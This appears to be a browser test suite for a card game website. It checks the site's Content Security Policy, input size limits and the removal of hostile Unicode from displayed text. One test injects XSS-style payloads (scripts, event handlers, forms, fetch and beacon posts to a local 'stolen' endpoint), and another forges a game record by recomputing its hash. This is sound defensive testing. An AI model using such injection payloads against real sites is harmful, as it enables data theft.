// What strangers hand in: scripts, links and files without end, names that steer or hide, words that fill the window.
import test from "node:test";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { assert, openGame, playOut, servePlainly, site, url, withPage } from "./support.mjs";
import { saved } from "./browsers.mjs";

const wide = { viewport: { width: 1280, height: 800 } };
const toast = (page) => page.locator(".toast.problem");

test("the page as built has neither script nor style within it", async () => {
    const html = await readFile(join(site, "index.html"), "utf8");
    assert.doesNotMatch(html, /<style|\sstyle=|\son\w+=|javascript:/i);
    for (const [script] of html.matchAll(/<script[^>]*>[^]*?<\/script>/g)) assert.match(script, /^<script type="module"[^>]* src="\.\/[^"]+"[^>]*><\/script>$/);
    assert.ok(html.indexOf("Content-Security-Policy") < html.indexOf("<script"));
    assert.match(html, /<meta name="referrer" content="no-referrer"/);
});

// By the policy in the page alone: a host for files has no headers for it.
test("what is injected into the page does not run, and reaches nobody", () => withPage(wide, async (page) => {
    const [server, elsewhere] = [await servePlainly(site), await servePlainly(site)];
    const asked = [];
    elsewhere.on("request", (request) => asked.push(request.url));
    try {
        await page.goto(`http://localhost:${server.address().port}/`);
        await page.getByText("your games stay in this browser").waitFor();
        const broken = await page.evaluate(async (other) => {
            const broken = new Set();
            addEventListener("securitypolicyviolation", (event) => broken.add(event.effectiveDirective));
            const script = document.createElement("script");
            script.textContent = "window.ran = 'a script'";
            const foreign = document.createElement("script");
            foreign.src = `${other}stolen.js`;
            document.body.append(script, foreign);
            const box = document.createElement("div");
            document.body.append(box);
            box.innerHTML = `<img src="none" onerror="window.ran = 'a handler'"><img src="${other}stolen.png"><p style="position: fixed">styled</p><style>.home { display: none }</style><a href="javascript:void (window.ran = 'an address')">x</a><base href="${other}"><iframe src="${other}"></iframe><form action="${other}"></form>`;
            box.querySelector("a").click();
            box.querySelector("form").submit();
            await fetch(`${other}stolen`, { method: "POST", body: "games" }).catch(() => {});
            navigator.sendBeacon(`${other}beacon`, "games");
            new Worker(URL.createObjectURL(new Blob(["fetch('none')"]))).onerror = () => {};
            await new Promise((done) => setTimeout(done, 500));
            if (getComputedStyle(box.querySelector("p")).position === "fixed") window.ran ??= "a style";
            return { ran: window.ran, base: document.baseURI, broken: [...broken].sort() };
        }, `http://127.0.0.1:${elsewhere.address().port}/`);
        assert.equal(broken.ran, undefined);
        assert.deepEqual(asked, []);
        assert.doesNotMatch(broken.base, /127\.0\.0\.1/);
        assert.deepEqual(broken.broken, ["base-uri", "connect-src", "form-action", "frame-src", "img-src", "script-src-attr", "script-src-elem", "style-src-attr", "style-src-elem", "worker-src"]);
        assert.equal(await page.locator(".home").isVisible(), true);
    } finally {
        server.close();
        elsewhere.close();
    }
}, { expected: /Content Security Policy|404|Failed to (load|construct)/ }));

test("a link without end is refused by a sentence, whatever it holds", () => withPage(wide, async (page) => {
    await openGame(page, "classic#42");
    await playOut(page, 1);
    const most = 64 * 1024;
    for (const [text, length] of [["a", 1_500_000], ["classic#", 70_000], ["scoundrel record 1\n", 70_000], ["2c", 70_000], ["/watch/record/", 70_000], ["%zz", 70_000]]) {
        await page.evaluate(([text, length]) => void (location.hash = text + "7".repeat(length)), [text, length]);
        await toast(page).getByText(/^This is too large: (1465|69) KiB, where at most 64 KiB are taken\.$/).waitFor();
        assert.equal(await page.evaluate(() => location.hash), "#/");
        await page.keyboard.press("Escape");
        await toast(page).waitFor({ state: "detached" });
    }
    // As long as it may be, and one more.
    for (const [length, words] of [[most - 1, /rules that this page does not know/], [most, /65 KiB, where/]]) {
        await page.goto("about:blank");
        await page.goto(`${url}#${"a".repeat(length)}`);
        await toast(page).getByText(words).waitFor();
    }
}));

test("a file without end is not read, nor a field", () => withPage(wide, async (page) => {
    await page.goto(`${url}#/history`);
    await page.getByRole("button", { name: "Bring games in" }).waitFor();
    await page.locator("input[type=file]").setInputFiles({ name: "huge.txt", mimeType: "text/plain", buffer: Buffer.alloc(8 * 1024 * 1024 + 1, "a") });
    await toast(page).getByText("8193 KiB, where at most 8192 KiB are taken").waitFor();
    await page.goto(`${url}#/position/classic`);
    await page.getByLabel(/as JSON/).fill("[".repeat(64 * 1024 + 1));
    await page.getByRole("button", { name: "Begin from it" }).click();
    await page.locator("form").getByText("65 KiB, where at most 64 KiB are taken").waitFor();
    await page.goto(`${url}#/new/classic`);
    await page.getByText("Other deals").click();
    await page.getByLabel(/A seed/).fill("7".repeat(64 * 1024 + 1));
    await page.getByRole("button", { name: "Begin", exact: true }).click();
    await toast(page).getByText("65 KiB, where at most 64 KiB are taken").waitFor();
}));

test("a game too long for a link is shared without", () => withPage(wide, async (page) => {
    await openGame(page, "classic#42");
    await page.getByRole("button", { name: "Menu" }).click();
    await page.getByText("More tools").click();
    await page.getByRole("button", { name: "Keep a remark in the record" }).click();
    await page.getByRole("dialog").getByRole("textbox").fill("é".repeat(12_000));
    await page.keyboard.press("Enter");
    await page.waitForFunction(() => !document.querySelector("dialog"));
    await page.getByRole("button", { name: "Menu" }).click();
    await page.getByRole("button", { name: "Share", exact: true }).click();
    await page.getByText("too long for a link").waitFor();
    assert.equal(await page.getByRole("button", { name: "Copy link to this game" }).count(), 0);
    assert.equal(await page.getByRole("button", { name: "Copy link to this deal" }).count(), 1);
}));

test("a long word leaves the buttons of a message in the window", () => withPage({ viewport: { width: 320, height: 568 } }, async (page) => {
    for (const word of ["W".repeat(300), "W".repeat(5000), `${"word ".repeat(800)}`]) {
        await page.goto("about:blank");
        await page.goto(`${url}#${encodeURIComponent(word)}%23`);
        await toast(page).waitFor();
        const boxes = await page.evaluate(() => {
            const box = (selector) => document.querySelector(selector).getBoundingClientRect().toJSON();
            return { toast: box(".toast"), text: box(".toast span"), button: box(".toast button"), beyond: document.documentElement.scrollWidth - innerWidth };
        });
        assert.ok(boxes.beyond <= 0, JSON.stringify(boxes));
        assert.ok((await toast(page).innerText()).length < 600); // nor is anybody told all of it
        for (const { left, right, top, bottom } of [boxes.toast, boxes.button]) assert.ok(left >= 0 && right <= 320 && top >= 0 && bottom <= 568, JSON.stringify(boxes));
        assert.ok(boxes.button.width >= 44 && boxes.button.height >= 44 && boxes.text.right <= boxes.button.left + 0.5, JSON.stringify(boxes));
        await toast(page).getByRole("button").click();
        await toast(page).waitFor({ state: "detached" });
    }
}));

// Each class of characters that must not reach anybody's eyes or ears as they are.
const hostile = "\u202eabc\u2066\u200b\u200d\ufeff\u00ad\u061c\u0085\u009b\u0007\u2028\u{e0041}\ufe0f\u3164\ue000e\u0301\u0301\u0301\u0301\u0301\u0301";
const unseen = /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]|[\p{Mn}\p{Me}]{5}/u;

// All that is shown or told: texts and the attributes that are read out.
async function seenIn(page) {
    const texts = await page.evaluate(() => {
        const all = [document.title];
        for (const one of document.querySelectorAll("*")) {
            for (const node of one.childNodes) if (node.nodeType === Node.TEXT_NODE) all.push(node.data);
            for (const name of ["aria-label", "title", "alt", "placeholder", "datetime", "aria-valuetext"]) if (one.hasAttribute(name)) all.push(one.getAttribute(name));
        }
        return all;
    });
    return texts.filter((text) => /\S/.test(text)).map((text) => text.trim());
}

function fnv1a(text) {
    let hash = 0xcbf29ce484222325n;
    for (const byte of Buffer.from(text)) hash = BigInt.asUintN(64, (hash ^ BigInt(byte)) * 0x100000001b3n);
    return hash.toString(16).padStart(16, "0");
}

// A record with its hash made anew, as any stranger can.
function reseal(record, change) {
    const lines = change(record.replace(/hash .*\n/, ""));
    return `${lines}hash ${fnv1a(lines.replace(/^;.*\n/gm, ""))}\n`;
}

test("strangers' names, times, seeds and remarks are shown with nothing in them that steers or hides", () => withPage(wide, async (page) => {
    const clean = async (where) => {
        const seen = await seenIn(page);
        assert.ok(seen.length > 3, where);
        assert.deepEqual(seen.filter((text) => unseen.test(text)), [], where);
        return seen.join("\n");
    };
    await openGame(page, `classic#${hostile}`);
    await page.keyboard.press("1");
    await clean("game");
    await playOut(page);
    await clean("end");
    await page.getByRole("button", { name: "Share" }).click();
    await page.getByRole("button", { name: "Copy link to this game" }).waitFor();
    assert.match(await clean("share"), /#\?abc\?\?/);
    await page.keyboard.press("Escape");
    await page.getByRole("button", { name: "Menu" }).click();
    await page.getByText("More tools").click();
    const { path } = await saved(page, () => page.getByRole("button", { name: "Save this game to a file" }).click());
    await clean("menu");
    const record = await readFile(path, "utf8");
    const line = hostile.replace(/[\u0085\u2028]/g, "");
    const stranger = reseal(record, (text) => text.replace(/^play .*$/m, `play ${line}`).replace(/^started .*$/m, `started ${line}`).replace(/^(deal .*)$/m, `$1\n; ${line}`));
    const refused = reseal(record, (text) => text.replace(/^play .*$/m, `play ${line}2`).replace(/^result .*$/m, "result won 99"));
    await page.goto(`${url}#/history`);
    await page.locator("input[type=file]").setInputFiles({ name: `${line}.txt`, mimeType: "text/plain", buffer: Buffer.from(stranger + refused) });
    await page.getByText("1 added").first().waitFor();
    assert.match(await clean("history"), /1 refused/);
    await page.getByRole("button", { name: /^Watch: / }).first().click();
    await page.locator(".still").waitFor();
    await clean("watch");
    await page.getByRole("button", { name: "Review" }).click();
    await page.locator(".graph").waitFor({ timeout: 30_000 });
    await clean("review");
    await openGame(page, `rascal#${hostile}`);
    await playOut(page, 1);
    await page.keyboard.press("m");
    await page.getByRole("button", { name: /Go on/ }).waitFor();
    await clean("first screen");
    for (const text of [`${hostile}#1`, `classic+${hostile}=1#1`, `scoundrel record 1\n${hostile}`]) {
        await page.goto(`${url}#${encodeURIComponent(text)}`);
        await toast(page).waitFor();
        await clean("toast");
        await page.goto("about:blank");
    }
}));
